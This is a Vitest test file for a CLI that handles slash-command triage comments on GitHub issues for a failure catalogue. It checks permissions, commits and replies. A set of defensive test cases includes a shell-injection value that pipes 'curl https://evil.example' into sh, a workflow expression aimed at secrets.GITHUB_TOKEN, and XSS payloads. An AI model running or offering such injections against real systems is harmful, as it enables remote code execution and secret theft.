/**
 * Triage commands typed as comments, against a local stand-in for the GitHub API, with events in GitHub's exact
 * issue_comment shape (tests/fixtures/comments/issue-comment.json, with the body and author varied): who may run
 * them (asked of the API), the commit on the intake branch, the one answer comment, and hostile input.
 */
import { spawn } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import { parseCommentCommand } from '../../src/lib/intake/triage/comment-command.ts';
import { FakeGitHub } from '../fixtures/fake-github.ts';
import { makeFailure, makeRemediation, makeReport, writeContentRoot } from '../fixtures/entries.ts';

const OWNER = 'openstack-failure-catalogue';
const REPO = 'failure-catalogue';
const API = `/repos/${OWNER}/${REPO}`;
const BOT = 'github-actions[bot]';
const ISSUE = `https://github.com/${OWNER}/${REPO}/issues/42`;
const EVENT = JSON.parse(readFileSync(join(import.meta.dirname, '..', 'fixtures', 'comments', 'issue-comment.json'), 'utf8')) as Record<string, Record<string, unknown>>;

function eventFile(body: string, login = 'wg-member', onPullRequest = false): string {
  const event = structuredClone(EVENT);
  event.comment!.body = body;
  (event.comment!.user as Record<string, unknown>).login = login;
  if (onPullRequest) event.issue = { ...event.issue, number: 43, pull_request: { url: `https://api.github.com${API}/pulls/43` } };
  const file = join(mkdtempSync(join(tmpdir(), 'fc-comment-')), 'event.json');
  writeFileSync(file, JSON.stringify(event));
  return file;
}

/** The submission as the intake leaves it: a draft report and a draft failure citing issue #42. */
function submission(): string {
  return writeContentRoot({
    failures: [makeFailure(), makeFailure({ id: 'FAIL-0002', status: 'draft', signatures: [], references: [{ type: 'report', url: ISSUE, title: 'Intake issue #42' }] })],
    remediations: [makeRemediation()],
    reports: [makeReport({ id: 'RPT-0002', status: 'draft', failure: undefined, remediation: undefined, outcome: undefined, source: ISSUE })],
  });
}

let server: FakeGitHub;
afterEach(() => server?.stop());

async function github(permission = 'write') {
  server = new FakeGitHub();
  server
    .on(`GET ${API}/collaborators/wg-member/permission`, { body: { permission, role_name: permission, user: { login: 'wg-member' } } })
    .on(`GET ${API}/collaborators/drive-by/permission`, { body: { permission: 'read', role_name: 'read', user: { login: 'drive-by' } } })
    .on(`GET ${API}/pulls?state=open&per_page=100`, { body: [{ number: 43, html_url: `https://github.com/${OWNER}/${REPO}/pull/43`, head: { ref: 'intake/issue-42', repo: { full_name: `${OWNER}/${REPO}` } } }] })
    .on(`GET ${API}/pulls/43/files?per_page=100`, { body: [{ filename: 'content/reports/RPT-0002.md', status: 'added' }, { filename: 'content/failures/FAIL-0002.md', status: 'added' }] })
    .on(`GET ${API}/git/ref/heads%2Fintake%2Fissue-42`, { body: { ref: 'refs/heads/intake/issue-42', object: { sha: 'head-sha', type: 'commit' } } })
    .on(`GET ${API}/git/commits/head-sha`, { body: { sha: 'head-sha', tree: { sha: 'head-tree' } } })
    .on(`POST ${API}/git/trees`, { status: 201, body: { sha: 'tree-sha' } })
    .on(`POST ${API}/git/commits`, { status: 201, body: { sha: 'c0ffee1234567890' } })
    .on(`PATCH ${API}/git/refs/heads%2Fintake%2Fissue-42`, { body: { ref: 'refs/heads/intake/issue-42', object: { sha: 'c0ffee1234567890' } } })
    .on(`GET ${API}/issues/42/comments?per_page=100`, { body: [{ id: 90, user: { login: BOT }, body: '<!-- failure-catalogue-intake: {} -->' }] })
    .on(`GET ${API}/issues/43/comments?per_page=100`, { body: [{ id: 91, user: { login: BOT }, body: '<!-- failure-catalogue-triage -->\nearlier answer' }] })
    .on(`POST ${API}/issues/42/comments`, { status: 201, body: { id: 92 } })
    .on(`PATCH ${API}/issues/comments/91`, { body: { id: 91 } });
  return server.start();
}

/** The CLI in a child process; asynchronous, because the stand-in API answers from this process's event loop. */
function run(api: string, event: string, content: string): Promise<{ code: number | null; out: string; err: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ['scripts/triage-comment.ts', '--event', event, '--content', content, '--today', '2026-12-05'], {
      env: { ...process.env, GITHUB_TOKEN: 'test-token', GITHUB_API_URL: api, CONTENT_DIR: '' },
    });
    let out = '';
    let err = '';
    child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString('utf8')));
    child.stderr.on('data', (chunk: Buffer) => (err += chunk.toString('utf8')));
    child.on('close', (code) => resolve({ code, out, err }));
  });
}
const answer = (route: string) => String((server.body(route) as { body: string }).body);

describe('comment commands', () => {
  test('/link from a member with write access: one commit on the intake branch, one answer', async () => {
    const api = await github();
    const content = submission();
    const result = await run(api, eventFile('/link FAIL-0001\n\nThis is the broker outage we already know.'), content);
    expect(result.code, result.err).toBe(0);
    const tree = server.body(`POST ${API}/git/trees`) as { base_tree: string; tree: Array<{ path: string; content?: string; sha?: null }> };
    expect(tree.base_tree).toBe('head-tree');
    expect(tree.tree.map((t) => [t.path, t.sha === null ? 'deleted' : 'written'])).toEqual([['content/reports/RPT-0002.md', 'written'], ['content/failures/FAIL-0002.md', 'deleted']]);
    expect(tree.tree[0]!.content).toContain('status: triaged');
    expect(server.body(`POST ${API}/git/commits`)).toMatchObject({ parents: ['head-sha'] });
    expect(server.body(`PATCH ${API}/git/refs/heads%2Fintake%2Fissue-42`)).toMatchObject({ sha: 'c0ffee1234567890', force: false });
    expect(answer(`POST ${API}/issues/42/comments`)).toMatch(/^<!-- failure-catalogue-triage -->\n@wg-member: `\/link FAIL-0001` done in c0ffee1 on `intake\/issue-42`\./);
    // The checkout is left as the branch now is.
    expect(readdirSync(join(content, 'failures'))).toEqual(['FAIL-0001.md']);
  });

  test('on the pull request, the answer updates the one triage comment there', async () => {
    const api = await github();
    const result = await run(api, eventFile('/duplicate-of FAIL-0001', 'wg-member', true), submission());
    expect(result.code, result.err).toBe(0);
    expect(server.routes()).toContain(`PATCH ${API}/issues/comments/91`);
    expect(server.routes()).not.toContain(`POST ${API}/issues/43/comments`);
  });

  test('/publish publishes the drafted failure and links the report to it', async () => {
    const api = await github();
    const result = await run(api, eventFile('/publish'), submission());
    expect(result.code, result.err).toBe(0);
    const tree = server.body(`POST ${API}/git/trees`) as { tree: Array<{ path: string; content: string }> };
    expect(tree.tree.find((t) => t.path === 'content/failures/FAIL-0002.md')!.content).toContain('status: published');
    expect(tree.tree.find((t) => t.path === 'content/reports/RPT-0002.md')!.content).toContain('failure: FAIL-0002');
  });

  test('someone without write access is answered and nothing changes (permission from the API, not the comment)', async () => {
    const api = await github();
    const event = JSON.parse(readFileSync(eventFile('/link FAIL-0001', 'drive-by'), 'utf8')) as { comment: Record<string, unknown> };
    event.comment.author_association = 'OWNER'; // text in the payload the script must not trust
    const file = join(mkdtempSync(join(tmpdir(), 'fc-comment-')), 'event.json');
    writeFileSync(file, JSON.stringify(event));
    const content = submission();
    const result = await run(api, file, content);
    expect(result.code).toBe(1);
    expect(answer(`POST ${API}/issues/42/comments`)).toContain('@drive-by: `/link FAIL-0001` needs write access to the repository (you have read)');
    expect(server.routes().filter((r) => r.includes('/git/'))).toEqual([]);
    expect(readdirSync(join(content, 'failures'))).toEqual(['FAIL-0001.md', 'FAIL-0002.md']);
  });

  test('an unknown failure ID is refused with the reason, and nothing is committed', async () => {
    const api = await github();
    const result = await run(api, eventFile('/link FAIL-0999'), submission());
    expect(result.code).toBe(1);
    expect(answer(`POST ${API}/issues/42/comments`)).toContain('was refused: FAIL-0999 does not exist in the catalogue');
    expect(server.routes()).not.toContain(`POST ${API}/git/commits`);
  });

  test.each([
    ['a shell injection in the ID', '/link FAIL-0001; curl https://evil.example | sh'],
    ['a workflow expression', '/link ${{ secrets.GITHUB_TOKEN }}'],
    ['an unknown command', '/delete-everything'],
    ['markup in an unknown command', '/<img src=x onerror=alert(1)>'],
  ])('hostile input (%s) is refused without touching the branch', async (_name, body) => {
    const api = await github();
    const result = await run(api, eventFile(body), submission());
    expect(result.code).toBe(1);
    const text = answer(`POST ${API}/issues/42/comments`);
    expect(text).toContain('Nothing was changed.');
    expect(text).not.toContain('<img');
    expect(text).not.toContain('secrets.GITHUB_TOKEN');
    expect(server.routes().filter((r) => r.includes('/git/') || r.includes('/permission'))).toEqual([]);
  });

  test('a hostile /withdraw reason is stored as a YAML value and shown as code, never markup', async () => {
    const api = await github();
    const reason = 'Spam: <script>alert(1)</script> "]\n' + '--- status: published';
    const result = await run(api, eventFile(`/withdraw ${reason.split('\n')[0]}`), submission());
    expect(result.code, result.err).toBe(0);
    const tree = server.body(`POST ${API}/git/trees`) as { tree: Array<{ path: string; content: string }> };
    const failure = tree.tree.find((t) => t.path === 'content/failures/FAIL-0002.md')!.content;
    expect(failure).toContain('status: withdrawn');
    expect(failure).toContain(`reason: 'Spam: <script>alert(1)</script> "]'`);
    expect(answer(`POST ${API}/issues/42/comments`)).toContain('`Spam: <script>alert(1)</script> "]`');
  });

  test('comments that are not commands cost nothing', async () => {
    const api = await github();
    expect((await run(api, eventFile('Thanks, I will look at this tomorrow.'), submission())).code).toBe(0);
    expect((await run(api, eventFile('/link FAIL-0001', BOT), submission())).code).toBe(0);
    expect(server.requests).toEqual([]);
  });
});

describe('the command grammar', () => {
  test.each([
    ['/link FAIL-0007', { kind: 'link', failure: 'FAIL-0007' }],
    ['  \n/duplicate-of FAIL-12345\nbecause', { kind: 'duplicate-of', failure: 'FAIL-12345' }],
    ['/publish', { kind: 'publish' }],
    ['/withdraw Not an OpenStack failure', { kind: 'withdraw', reason: 'Not an OpenStack failure' }],
    ['/link fail-0007', { kind: 'invalid' }],
    ['/link FAIL-0007 FAIL-0008', { kind: 'invalid' }],
    ['/publish now', { kind: 'invalid' }],
    ['/withdraw', { kind: 'invalid' }],
    ['/withdraw bad\u202EText', { kind: 'invalid' }],
    ['please /link FAIL-0007', { kind: 'none' }],
  ])('%j', (body, expected) => {
    expect(parseCommentCommand(body)).toMatchObject(expected);
  });
});
